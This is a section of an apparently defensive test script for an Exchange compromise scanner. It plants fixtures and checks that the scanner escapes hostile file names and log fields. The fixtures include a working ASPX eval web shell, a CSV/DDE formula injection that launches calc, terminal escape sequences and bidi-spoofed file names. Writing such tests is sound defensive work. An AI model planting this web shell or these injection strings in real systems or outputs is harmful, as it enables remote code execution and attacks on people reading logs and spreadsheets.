# 13. Output that cannot be used against its reader: file names and log
#     fields that hold terminal escapes, C1 controls, bidi and invisible
#     format characters, invalid UTF-8 and spreadsheet formulas behind ';'
#     are escaped in text and CSV (\xNN for control bytes, <U+XXXX> for format
#     characters), kept faithful but escaped in JSON Lines, and ordinary
#     Cyrillic and CJK text is shown as it is.
D=$(newdir output)
python3 - "$D" "$REPO" <<'EOF'
import os, sys
root, repo = sys.argv[1], sys.argv[2]
shell = (b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\r\n')
d = os.path.join(root, b'inetpub/wwwroot/aspnet_client/system_web'.decode())
os.makedirs(d)
fmt = [0x061C, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C,
       0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0x2028, 0xE0041]
names = [('inv%04X' % c).encode() + chr(c).encode() + b'xpsa.aspx' for c in fmt]
names += [b'c1\xc2\x9b2J.aspx', b'esc\x1b[31m.aspx', b'del\x7f.aspx', b'bad\xff.aspx',
          'отчёт_报告.aspx'.encode()]
for n in names:
    with open(os.path.join(d.encode(), n), 'wb') as f:
        f.write(shell)
# the ProxyLogon SSRF row of the format-csv fixture, once per hostile user agent
src = os.path.join(repo, 'tests/e2e/format-csv/input/Program Files/Microsoft/Exchange Server/'
                   'V15/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG')
lines = open(src, 'rb').read().split(b'\n')
head = [l for l in lines if l.startswith(b'#')]
row = [l for l in lines if l.startswith(b'2021-03-03T02:11:41.337Z')][0]
agents = [b"Mozilla/5.0 \x1b[31m;=cmd|' /C calc'!A0", b'x;+1;-2;@SUM(1)', b'x; "=1+1',
          b'=1;=2', b'\x1b]0;title\x07\x1b[2J', b'c1 \xc2\x9b31m \xc2\x85', b'bidi \xe2\x80\xaegpj.exe',
          b'bad \xff\xfe', 'Иван 张伟'.encode()]
out = head[:]
for k, ua in enumerate(agents):
    r = row.replace(b"=cmd|' /C calc'!A0", ua).replace(b'02:11:41.337Z', b'02:11:%02d.000Z' % (k + 10))
    out.append(r)
ld = os.path.join(root, 'Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp')
os.makedirs(ld)
with open(os.path.join(ld, 'HttpProxy_2021030302-1.LOG'), 'wb') as f:
    f.write(b'\r\n'.join(out) + b'\r\n')
EOF

# checker: FORMAT FILE -> prints what is wrong, nothing when all is well
out13_check() {
    python3 - "$1" "$2" <<'EOF'
import csv, io, json, sys, unicodedata
fmt, path = sys.argv[1], sys.argv[2]
raw = open(path, 'rb').read()
bad = []
try:
    text = raw.decode('utf-8')
except UnicodeDecodeError as e:
    print('not UTF-8:', e); sys.exit()
def hostile(ch):
    o = ord(ch)
    return o < 0x20 or 0x7f <= o < 0xa0 or unicodedata.category(ch) in ('Cf', 'Zl', 'Zp')
# line ends only: LF (text, JSON Lines), CR LF (CSV)
body = text.replace('\r\n', '') if fmt == 'csv' else text.replace('\n', '')
found = sorted(set(ch for ch in body if hostile(ch)))
if found:
    bad.append('raw control or format characters: %r' % found)
def need(s):
    if s not in text:
        bad.append('missing %r' % s)
if fmt in ('text', 'csv'):
    for s in ('<U+202E>', '<U+FEFF>', '<U+200B>', '<U+2066>', '<U+061C>', '<U+E0041>',
              '<U+2028>', '\\x1b[31m', '\\xc2\\x9b', '\\x7f', 'отчёт_报告.aspx', 'Иван 张伟'):
        need(s)
if fmt == 'csv':
    rows = list(csv.reader(io.StringIO(text, newline='')))
    if any(len(r) != 23 for r in rows):
        bad.append('a row without 23 cells')
    for r in rows[1:]:
        for c in r:
            if c[:1] in ('=', '+', '-', '@', '\t', '\r'):
                bad.append('cell starts a formula: %r' % c)
    # read as a ';'-separated sheet: no cell may start a formula there either
    for r in csv.reader(io.StringIO(text, newline=''), delimiter=';'):
        for c in r[1:]:
            if c.lstrip(' "')[:1] in ('=', '+', '-', '@'):
                bad.append("';' cell starts a formula: %r" % c)
    need('"Mozilla/5.0 \\x1b[31m;\'=cmd|\' /C calc\'!A0"')
if fmt == 'jsonl':
    recs = [json.loads(l) for l in text.splitlines()]
    paths = [r.get('file', {}).get('path', '') for r in recs]
    agents = [r.get('user_agent', {}).get('original', '') for r in recs]
    for s in ('\u202e', '\ufeff', '\U000e0041', 'отчёт_报告'):
        if not any(s in p for p in paths):
            bad.append('no file.path holds %r' % s)
    for s in ('\x1b[31m;=cmd', '\u202egpj', '\x85', 'Иван 张伟'):
        if not any(s in a for a in agents):
            bad.append('no user_agent.original holds %r' % s)
    if '\\u202e' not in text or '\\u001b' not in text or '\\u009b' not in text:
        bad.append('format and control characters not written as \\u escapes')
for b in bad[:8]:
    print(b)
EOF
}
out13_clean() { local why; why=$(out13_check "$1" "$OUT"); [ -z "$why" ] || { note "$why"; return 1; }; }

for f in text csv jsonl; do
    scan "output-$f" -f "$f" --color never "$D"
    check "$f: no crash"                                      no_crash
    check "$f: exit 1 (COMPROMISED)"                          test "$RC" -eq 1
    check "$f: escaped, faithful where it must be, formula-safe" out13_clean "$f"
done
scan output-jsonl -f jsonl "$D"
check "jsonl: verdict COMPROMISED"                            is_verdict COMPROMISED
check "jsonl: the U+202E shell is found (EXH-WS-001)"         has_finding EXH-WS-001 'inv202E\u202expsa.aspx'
